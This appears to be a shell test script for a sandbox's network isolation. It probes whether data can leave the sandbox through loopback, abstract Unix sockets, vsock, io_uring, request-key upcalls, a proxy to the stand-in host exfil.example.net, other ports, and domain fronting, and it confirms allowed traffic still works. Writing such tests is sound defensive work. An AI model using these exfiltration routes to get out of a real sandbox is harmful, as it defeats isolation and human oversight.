# Tries to send what it can read out of its network: straight to a
# listener on the host's loopback, to the machine's own address, to an
# abstract Unix socket of the host, over vsock (no network namespace
# holds it; CID 1 is this machine, never the hypervisor), through an
# io_uring (which makes sockets no filter sees), through the kernel's
# key upcall (the host's request-key resolves a dns_resolver key's name), through the proxy to a host nobody
# allowed and to another port of an allowed host, through a tunnel to the
# allowed host with another site named in the Host header (domain
# fronting by Host); and to the host the user allowed, directly and in
# a tunnel, which must work.
set +e
mkdir -p a
p=@NETPROBE@
{
  echo "loopback: $($p tcp @LOOP@ loot-loopback)"
  echo "other: $($p tcp @OTHER@:@ALLPORT@ loot-other)"
  echo "abstract: $($p unix @ABSTRACT@ loot-abstract)"
  echo "vsock: $($p vsock 1:47392 loot-vsock)"
  echo "uring: $($p uring x)"
  echo "requestkey: $($p requestkey loot-requestkey.invalid)"
  echo "refused: $($p get http://exfil.example.net/loot-refused)"
  echo "allowed: $($p get http://@OTHER@:@OKPORT@/loot-allowed)"
  echo "other-port: $($p get http://@OTHER@:@NOPORT@/loot-other-port)"
  echo "fronted: $($p front @OTHER@:@OKPORT@ exfil.example.net /loot-fronted)"
  echo "tunnelled: $($p front @OTHER@:@OKPORT@ @OTHER@:@OKPORT@ /loot-tunnelled)"
} > a/net.txt 2>&1
echo "T1 was here" > a/t1.txt
